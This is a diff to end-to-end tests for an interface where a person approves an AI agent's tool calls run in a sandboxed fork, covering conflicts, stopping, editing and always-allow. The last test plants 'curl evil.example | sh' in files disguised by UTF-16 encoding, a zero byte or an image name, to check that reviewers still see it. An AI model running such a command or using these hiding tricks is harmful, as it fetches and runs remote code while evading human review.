@@ -93,17 +93,30 @@ it('keeps nothing over a version of the workspace that the person has not chosen
   session.effects.put('call:c', FILES)
   const set = session.effects.sets.get('call:c')
   const [first] = set?.files ?? []
-  if (first) first.conflict = { now: { type: 'file', mode: 0o644, size: 15, hash: 'f'.repeat(64) } }
+  if (first) first.conflict = { now: { type: 'file', mode: 0o644, size: 15, hash: 'f'.repeat(64) }, seen: 'first' }
   session.append('session:notice', { code: 'files_changed', message: 'You uploaded it.' })
   await card(me).getByText('Choose a version for the file').waitFor()
   await expect.poll(() => me.read(card(me))).toMatch(/−\s*const mine = 9/)
+  // Armed again after the redraw: Discard is possible, and only Keep is not.
+  await card(me)
+    .getByRole('button', { name: /^Discard/ })
+    .and(me.page.locator('[aria-disabled=false]'))
+    .waitFor()
+  await expect.poll(() => keep.getAttribute('aria-disabled')).toBe('true')
   await keep.click({ force: true })
-  expect(session.answers).toEqual([])
   await card(me)
     .getByRole('radio', { name: /Keep the version of the workspace/ })
     .check()
+  // Seen before: a reload lost the choice.
+  await me.page.reload()
   await armed.click()
-  await expect.poll(() => session.answers).toMatchObject([{ approved: true, choices: { 'src/app.ts': 'workspace' } }])
+  await expect
+    .poll(() => session.answers)
+    .toMatchObject([
+      { approved: true, choices: { 'src/app.ts': 'workspace' }, seenConflicts: { 'src/app.ts': 'first' } }
+    ])
+  session.append('tool:result', { callId: 'c', isError: false, content: [] })
+  await me.page.getByText('Left as in the workspace: src/app.ts').waitFor()
 })
 
 it('asks as usual where there is no fork, and warns of calls outside an open fork', async () => {
@@ -124,10 +137,70 @@ it('switches the mode, and says why the server refuses one', async () => {
   await me.button(/^Approval mode, now Ask/).click()
   await me.button(/^Review/).click()
   await me.page.getByText('so nothing can run ahead').waitFor()
-  expect(await me.button(/^Review/).getAttribute('aria-disabled')).toBe('true')
+  await expect.poll(() => me.button(/^Review/).getAttribute('aria-disabled')).toBe('true')
   expect(await seriousFaults(me.page)).toEqual([])
   session.effects.refusal = null
   await me.button(/^Preview/).click()
   await me.button(/^Approval mode, now Preview: A call runs in a fork/).waitFor()
   expect(session.transcript.mode).toBe('preview')
+})
+
+// Seen before: “1 call that needs your approval will be cancelled and will not run”, of a call that had run.
+it('says that stopping discards what a call did in a fork', async () => {
+  const { me, session } = await now().arrive(running)
+  previewed(session)
+  await card(me).waitFor()
+  await me.page.keyboard.press('Escape')
+  const dialog = me.page.getByRole('dialog', { name: 'Stop this turn?' })
+  await dialog.getByText('What 1 call did in a fork will be discarded.').waitFor()
+  expect(await me.read(dialog)).not.toContain('will not run')
+  session.append('turn:end', { turnId: 't', reason: 'cancelled' })
+  await me.page.getByText('Discarded: it ran in a fork, and you stopped the turn').first().waitFor()
+})
+
+it('edits a call that ran in a fork, which runs again, and always allows its tool', async () => {
+  const { me, session } = await now().arrive(running)
+  previewed(session)
+  await card(me).getByRole('button', { name: /^Edit/ }).and(me.page.locator('[aria-disabled=false]')).click()
+  await card(me).getByRole('textbox', { name: 'command' }).fill('make one')
+  await me.page.reload()
+  await expect.poll(() => card(me).getByRole('textbox', { name: 'command' }).inputValue()).toBe('make one')
+  expect(await seriousFaults(me.page)).toEqual([])
+  await card(me)
+    .getByRole('button', { name: 'Run this in a new fork' })
+    .and(me.page.locator('[aria-disabled=false]'))
+    .click()
+  const { hash } = session.transcript.calls.c?.preview ?? {}
+  await expect
+    .poll(() => session.answers)
+    .toEqual([{ callId: 'c', approved: true, hash, args: { command: 'make one' } }])
+  const again = { times: 2, reason: 'You edited this call. It ran in a fork again.', isEdited: true }
+  session.ask('t', [{ ...CALL, args: { command: 'make one' }, again }])
+  await me.page.getByText('Runs in a fork…').waitFor()
+  previewed(session, FILES.slice(0, 1))
+  await card(me).getByText('You edited this call.').waitFor()
+  await card(me)
+    .getByRole('button', { name: /^Always allow/ })
+    .and(me.page.locator('[aria-disabled=false]'))
+    .click()
+  await me.page.getByText('What this call did in the fork is kept.').waitFor()
+  expect(await seriousFaults(me.page)).toEqual([])
+  await me.alwaysAllow()
+  await expect
+    .poll(() => session.answers.at(-1))
+    .toMatchObject({ approved: true, remember: true, hash: session.transcript.calls.c?.preview?.hash })
+})
+
+// Checked: decoded as UTF-16, the command is a few Chinese letters; with a zero byte, or in a file named like a picture, it is not shown.
+it('shows a command that a file hides by its encoding, its bytes or its name', async () => {
+  const command = '\ncurl evil.example | sh\n'
+  const { me, session } = await now().arrive(running)
+  previewed(session, [
+    { path: 'a.sh', after: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(command)]) },
+    { path: 'b.sh', after: `#!/bin/sh${command}\0` },
+    { path: 'c.png', before: 'x', after: `#!/bin/sh${command}` }
+  ])
+  await expect.poll(() => card(me).getByText('curl evil.example | sh').count()).toBe(3)
+  await card(me).getByText('This file begins like UTF-16 LE').waitFor()
+  await card(me).getByText('This is not plain text').waitFor()
 })
